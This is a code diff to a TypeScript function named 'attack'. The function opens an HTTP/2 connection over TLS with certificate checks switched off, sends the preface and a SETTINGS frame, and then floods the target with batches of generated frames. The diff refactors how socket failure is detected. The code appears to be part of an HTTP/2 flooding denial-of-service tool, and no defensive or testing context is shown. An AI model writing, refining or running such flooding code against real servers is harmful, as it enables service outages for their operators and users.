@@ -76,19 +76,12 @@ export async function attack(
   frames: number,
 ): Promise<number> {
   const socket: TLSSocket = connect({ ...target, ALPNProtocols: ['h2'], rejectUnauthorized: false })
-  let open = true
-  socket.on('error', () => {
-    open = false
-  })
-  socket.on('close', () => {
-    open = false
-  })
+  socket.on('error', () => socket.destroy())
   socket.resume()
-  const ready = once(socket, 'secureConnect').catch(() => undefined)
-  await ready
-  if (open) socket.write(Buffer.concat([preface, frame('settings', 0, 0)]))
+  await once(socket, 'secureConnect').catch(() => undefined)
+  if (!socket.destroyed) socket.write(Buffer.concat([preface, frame('settings', 0, 0)]))
   let sent = 0
-  while (open && sent < frames) {
+  while (!socket.destroyed && sent < frames) {
     const batch: Buffer[] = []
     for (let at = 0; at < 200 && sent < frames; at += 1, sent += 1) batch.push(next(sent))
     if (socket.write(Buffer.concat(batch))) {
